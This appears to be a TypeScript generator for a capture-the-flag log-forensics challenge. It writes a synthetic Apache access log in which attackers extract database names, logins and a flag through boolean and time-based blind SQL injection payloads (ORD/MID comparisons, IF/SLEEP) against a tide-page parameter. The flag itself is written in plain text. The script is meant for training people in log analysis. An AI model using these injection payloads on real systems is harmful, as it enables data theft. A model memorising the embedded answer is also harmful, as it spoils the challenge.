import { mkdirSync, writeFileSync } from 'node:fs';

const flag = 'FANION{la_brume_garde_vos_empreintes}';
let seed = 0x5eaf09;
const random = (limit: number) => {
  seed = (Math.imul(seed ^ (seed >>> 15), 0x2c1b3c6d) + 0x9e3779b9) >>> 0;
  return Math.floor((((seed ^ (seed >>> 13)) >>> 0) / 2 ** 32) * limit);
};
const pick = <T>(list: readonly T[]): T => list[random(list.length)]!;

interface Line {
  at: number;
  ip: string;
  path: string;
  status: number;
  size: number;
  micros: number;
  referer: string;
  agent: string;
}
const lines: Line[] = [];
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (value: number) => String(value).padStart(2, '0');
const stamp = (at: number) => {
  const date = new Date(at);
  const day = `${two(date.getUTCDate())}/${months[date.getUTCMonth()]}/${date.getUTCFullYear()}`;
  return `${day}:${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())} +0000`;
};

const start = Date.UTC(2025, 10, 14, 21, 2, 0);
const end = Date.UTC(2025, 10, 14, 22, 10, 0);
const browsers = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 Version/18.6 Mobile Safari/604.1',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0.0.0 Safari/537.36',
];
const pages = ['/', '/marees.php?port=1', '/marees.php?port=3', '/marees.php?port=7', '/marees.php?port=12']
  .concat([
    '/meteo.php',
    '/webcam.php?vue=mole',
    '/style.css',
    '/logo.svg',
    '/avis.php?id=88',
    '/connexion.php',
  ])
  .concat(['/marees.php?port=7%20ouest', '/marees.php?port=99', '/avis.php?id=91&tri=date']);
for (let visit = 0; visit < 70; visit += 1) {
  const ip = `198.51.100.${2 + random(250)}`;
  const agent = pick(browsers);
  let at = start + random(end - start);
  for (let step = 2 + random(8); step > 0; step -= 1) {
    const path = pick(pages);
    const known = path.includes('port=99') ? 2380 : path.includes('port=') ? 6110 : 900 + path.length * 131;
    const slow = random(40) === 0 ? 1_900_000 : 0;
    const size = known + random(60) - 30;
    lines.push({
      at,
      ip,
      path,
      status: 200,
      size,
      micros: 21_000 + random(60_000) + slow,
      referer: '-',
      agent,
    });
    at += 600 + random(40_000);
  }
}

const attack = (at: number, ip: string, sql: string, status: number, size: number, micros: number) =>
  lines.push({
    at,
    ip,
    path: `/marees.php?port=${encodeURIComponent(`7 ${sql}`)}`,
    status,
    size,
    micros,
    referer: '-',
    agent: ip.endsWith('.66') ? 'python-requests/2.32.3' : browsers[0]!,
  });

/** Plays the questions that find `text` by halving, three positions at a time as a threaded tool does. */
function extract(
  from: number,
  ip: string,
  query: string,
  text: string,
  first: number,
  slow: boolean,
): number {
  let at = from;
  const states = Array.from(text, (_, index) => ({ index, low: 32, high: 127 }));
  for (let group = first; group < states.length; group += 3) {
    const open = states.slice(group, group + 3);
    while (open.some(({ low, high }) => low < high)) {
      const state = pick(open.filter(({ low, high }) => low < high));
      const middle = (state.low + state.high) >> 1;
      const answer = text.charCodeAt(state.index) > middle;
      const test = `ORD(MID((${query}),${state.index + 1},1))>${middle}`;
      const sql = slow ? `AND 41=IF((${test}),41,SLEEP(2))` : `AND ${test}`;
      if (random(23) === 0)
        attack(at, ip, sql, slow ? 504 : 503, 402, slow ? 2_000_900 + random(9000) : 1200 + random(900));
      else {
        const size = (answer ? 6110 : 2380) + random(60) - 30;
        attack(at, ip, sql, 200, size, 24_000 + random(50_000) + (slow && !answer ? 2_000_000 : 0));
        if (answer) state.low = middle + 1;
        else state.high = middle;
      }
      at += (slow ? 1500 : 260) + random(700);
    }
  }
  return at;
}

// A clumsy visitor first, stopped at once: his questions teach nothing.
let noisy = start + 240_000;
for (let index = 1; index < 28; index += 1) {
  const test = `ORD(MID((SELECT consigne FROM agents LIMIT 0,1),${index},1))>${64 + random(50)}`;
  attack(noisy, '203.0.113.66', `AND ${test}`, 403, 199, 900 + random(400));
  noisy += 300 + random(2000);
}
let now = start + 600_000;
const careful = '192.0.2.41';
for (const quote of ["'", '', 'AND 5=5', 'AND 5=6', "' OR 'a'='a"]) {
  attack(
    now,
    careful,
    quote,
    quote === "'" ? 500 : 200,
    quote === 'AND 5=6' ? 2371 : 6098,
    30_000 + random(9000),
  );
  now += 4000 + random(5000);
}
now = extract(now, careful, 'SELECT DATABASE()', 'capitainerie', 0, false) + 41_000;
const logins = 'SELECT GROUP_CONCAT(login) FROM agents';
now = extract(now, careful, logins, 'legoff,kerbrat', 0, false) + 30_000;
const order = "SELECT consigne FROM agents WHERE login='kerbrat'";
const half = 18;
now = extract(now, careful, order, flag.slice(0, half), 0, false);
for (let refused = 0; refused < 9; refused += 1) {
  attack(now, careful, `AND ORD(MID((${order}),${half + 1},1))>${79 + refused}`, 403, 199, 800 + random(300));
  now += 900 + random(4000);
}
// The address is banned: another takes over, and a rule that pads this page leaves only the time to read.
const takeover = now + 180_000;
extract(takeover, '192.0.2.187', order, flag, half, true);
for (const line of lines)
  if (line.at >= takeover && line.status === 200 && line.path.startsWith('/marees')) line.size = 8192;

const text = lines
  .map((line, index) => ({ line, index }))
  .sort((a, b) => a.line.at - b.line.at || a.index - b.index)
  .map(
    ({ line: { at, ip, path, status, size, micros, referer, agent } }) =>
      `${ip} - - [${stamp(at)}] "GET ${path} HTTP/1.1" ${status} ${size} "${referer}" "${agent}" ${micros}`,
  )
  .join('\n');
mkdirSync(new URL('files/', import.meta.url), { recursive: true });
writeFileSync(new URL('files/access_log', import.meta.url), `${text}\n`);
